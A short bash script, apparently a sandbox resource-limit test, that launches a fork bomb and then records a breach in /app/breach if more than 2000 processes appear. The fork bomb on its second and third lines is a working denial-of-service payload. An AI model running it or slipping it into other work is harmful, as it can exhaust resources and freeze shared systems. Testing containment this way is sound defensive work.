#!/bin/bash
bomb() { bomb | bomb & }
bomb
# wait with builtins only: forking a sleep would fail once the limit is reached
while [ "$SECONDS" -lt 3 ]; do :; done
n=$(ls -d /proc/[0-9]* 2>/dev/null | wc -l)
if [ "$n" -gt 2000 ]; then echo "fork bomb reached $n processes" > /app/breach; fi
exit 0
